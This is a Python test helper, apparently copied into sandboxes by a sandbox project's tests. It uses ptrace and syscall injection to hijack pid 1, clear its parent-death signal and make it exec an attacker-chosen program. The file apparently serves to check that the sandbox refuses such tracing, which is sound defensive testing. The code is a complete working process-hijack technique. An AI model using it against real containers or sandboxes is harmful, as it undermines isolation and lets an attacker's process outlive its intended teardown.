"""As root inside a sandbox: seize pid 1 with ptrace, clear its parent-death signal, and make
it exec `sys.argv[1:]` (so it stops being the keepalive and becomes the attacker's program).
x86_64 registers. Prints `hijacked`, or `refused <errno>` when pid 1 cannot be traced.

Copied into sandboxes by the tests (it runs with the sandbox's python3, not the host's).
"""

import ctypes
import errno
import os
import sys

libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_int, ctypes.c_void_p, ctypes.c_void_p]
NAMES = (
    "r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax rip cs eflags"
    " rsp ss fs_base gs_base ds es fs gs"
).split()


class Regs(ctypes.Structure):
    _fields_ = [(n, ctypes.c_ulonglong) for n in NAMES]


SEIZE, INTERRUPT, GETREGS, SETREGS, POKEDATA, SINGLESTEP, DETACH = (
    0x4206, 0x4207, 12, 13, 5, 9, 17,
)  # fmt: skip
WALL = 0x40000000


def ptrace(req: int, addr: object = None, data: object = None) -> None:
    if libc.ptrace(req, 1, addr, data) != 0 and req != POKEDATA:
        raise OSError(ctypes.get_errno(), f"ptrace {req}")


try:
    ptrace(SEIZE)
except OSError as e:
    print("refused", errno.errorcode.get(e.errno or 0, e.errno), flush=True)
    sys.exit(0)
ptrace(INTERRUPT)
os.waitpid(1, os.WUNTRACED | WALL)
saved = Regs()
ptrace(GETREGS, None, ctypes.byref(saved))


def syscall(nr: int, *args: int) -> None:
    regs = Regs.from_buffer_copy(saved)
    regs.rip, regs.rax, regs.orig_rax = saved.rip - 2, nr, 2**64 - 1  # at pid 1's `syscall`
    for name, value in zip(("rdi", "rsi", "rdx"), args, strict=False):
        setattr(regs, name, value)
    ptrace(SETREGS, None, ctypes.byref(regs))


syscall(157, 1, 0)  # prctl(PR_SET_PDEATHSIG, 0)
ptrace(SINGLESTEP)
os.waitpid(1, WALL)
# execve(argv[0], argv, NULL), its strings and pointers written over pid 1's stack.
base = (saved.rsp & ~7) + 64
strings, offsets = b"", []
for arg in sys.argv[1:]:
    offsets.append(len(strings))
    strings += arg.encode() + b"\0"
strings = strings.ljust((len(strings) + 7) & ~7, b"\0")
pointers = base + len(strings)
blob = strings + b"".join((base + o).to_bytes(8, "little") for o in offsets) + bytes(8)
for i in range(0, len(blob), 8):
    word = int.from_bytes(blob[i : i + 8], "little")
    libc.ptrace(POKEDATA, 1, ctypes.c_void_p(base + i), ctypes.c_void_p(word))
syscall(59, base, pointers, 0)
ptrace(DETACH)
print("hijacked", flush=True)
